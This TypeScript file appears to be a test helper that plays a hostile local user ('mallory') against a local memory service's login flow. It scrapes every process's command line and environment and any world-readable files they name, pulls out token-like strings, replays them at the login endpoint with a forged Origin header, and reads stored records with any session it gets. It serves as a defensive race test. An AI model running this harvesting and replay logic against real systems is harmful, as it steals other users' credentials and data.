/**
 * Another local user's poller ("mallory"), run as a real process of its own (as `nobody` when the
 * suite runs as root, so the kernel's own rules decide what it may read): it reads every
 * process's `/proc/<pid>/cmdline` and `environ` as fast as it can, follows any file a process's
 * arguments name that another user could read, and spends anything that looks like a viewer
 * login code at the collector before the owner's browser can. Self-contained (no imports): it is
 * copied to a folder that user can read and run with `--no-config`.
 *
 * `deno run --no-config --allow-all _mallory.ts <port> <dir>`:
 * writes `<dir>/ready` after its first round over the process list and `<dir>/opener-seen` after
 * the round that read an `xdg-open`'s arguments (and spent what they named), stops when `<dir>/stop`
 * appears (or after two minutes), prints one JSON line per finding and a last line with what it
 * saw.
 *
 * @module
 */

const [portArg, dir] = Deno.args;
const port = Number(portArg);
const until = Date.now() + 120_000;
const base = `http://127.0.0.1:${port}`;
const decoder = new TextDecoder();

/** Long URL-safe runs: login codes, tokens and session keys all look like this. */
const SECRET_RUN = /[A-Za-z0-9_-]{32,}/g;

const seenStrings = new Set<string>();
const tried = new Set<string>();
let processes = 0;
let openerSeen = false;

function report(line: Record<string, unknown>): void {
  console.log(JSON.stringify(line));
}

/** Whether a user who is neither the owner nor in the group may read `path` (mode bits). */
function othersMayRead(path: string): boolean {
  try {
    if (((Deno.statSync(path).mode ?? 0) & 0o004) === 0) return false;
    const parts = path.split("/").filter(Boolean);
    for (let i = 0; i < parts.length - 1; i++) {
      const dir = "/" + parts.slice(0, i + 1).join("/");
      if (((Deno.statSync(dir).mode ?? 0) & 0o001) === 0) return false;
    }
    return true;
  } catch {
    return false;
  }
}

function readText(path: string): string | null {
  try {
    return decoder.decode(Deno.readFileSync(path));
  } catch {
    return null;
  }
}

/** Spends `code` both ways a viewer has taken one, and uses what it gets. */
async function spend(code: string): Promise<void> {
  if (tried.has(code)) return;
  tried.add(code);
  const got: Record<string, unknown> = { code: code.slice(0, 8) + "…" };
  try {
    // The login link as a GET (the code in the query).
    const viaGet = await fetch(`${base}/ui/login?code=${encodeURIComponent(code)}`, {
      redirect: "manual",
    });
    await viaGet.body?.cancel();
    got.get = viaGet.status;
    let cookie = viaGet.headers.get("set-cookie")?.split(";")[0] ?? "";
    let key = new URLSearchParams(
      new URL(viaGet.headers.get("location") ?? "/", base).hash.slice(1),
    ).get("session_key") ?? "";
    // The login page's post (a program can send any Origin it likes).
    const viaPost = await fetch(`${base}/ui/login`, {
      method: "POST",
      headers: { origin: base, "content-type": "application/json" },
      body: JSON.stringify({ code }),
    });
    got.post = viaPost.status;
    if (viaPost.ok) {
      cookie = viaPost.headers.get("set-cookie")?.split(";")[0] ?? cookie;
      key = (await viaPost.json().catch(() => ({}))).session_key ?? key;
    } else {
      await viaPost.body?.cancel();
    }
    if (cookie !== "") {
      const records = await fetch(`${base}/v1/memories?limit=100`, {
        headers: { cookie, "x-kiro-learn-session-key": key, origin: base },
      });
      got.records = records.status;
      if (records.ok) got.read = ((await records.json()).items ?? []).length;
      else await records.body?.cancel();
    }
  } catch (error) {
    got.error = String(error);
  }
  report({ spent: got });
}

async function poll(): Promise<void> {
  const pending: Promise<void>[] = [];
  for (const entry of Deno.readDirSync("/proc")) {
    if (!/^\d+$/.test(entry.name)) continue;
    processes++;
    const argv = readText(`/proc/${entry.name}/cmdline`)?.split("\0") ?? [];
    const environ = readText(`/proc/${entry.name}/environ`)?.split("\0") ?? [];
    if (argv.some((a) => a.endsWith("xdg-open"))) openerSeen = true;
    for (const text of [...argv, ...environ]) {
      if (text === "" || seenStrings.has(text)) continue;
      seenStrings.add(text);
      const texts = [text];
      // A path (or file:// URL) in the arguments: read it if another user could.
      const path = text.startsWith("file://") ? decodeURIComponent(new URL(text).pathname) : text;
      if (path.startsWith("/") && othersMayRead(path)) {
        const content = readText(path);
        if (content !== null && content.length < 1_000_000) texts.push(content);
      }
      for (const t of texts) {
        for (const match of t.matchAll(SECRET_RUN)) {
          report({ secret: match[0], pid: Number(entry.name) });
          pending.push(spend(match[0]));
        }
      }
    }
  }
  await Promise.all(pending);
  // Tells the test's opener it has been read (and what it named spent): it may exit now.
  if (openerSeen) Deno.writeTextFileSync(`${dir}/opener-seen`, "");
}

function exists(path: string): boolean {
  try {
    Deno.statSync(path);
    return true;
  } catch {
    return false;
  }
}

await poll();
Deno.writeTextFileSync(`${dir}/ready`, "");
while (Date.now() < until && !exists(`${dir}/stop`)) {
  await poll();
  await new Promise((r) => setTimeout(r, 1));
}
report({ done: { processes, strings: seenStrings.size, openerSeen } });
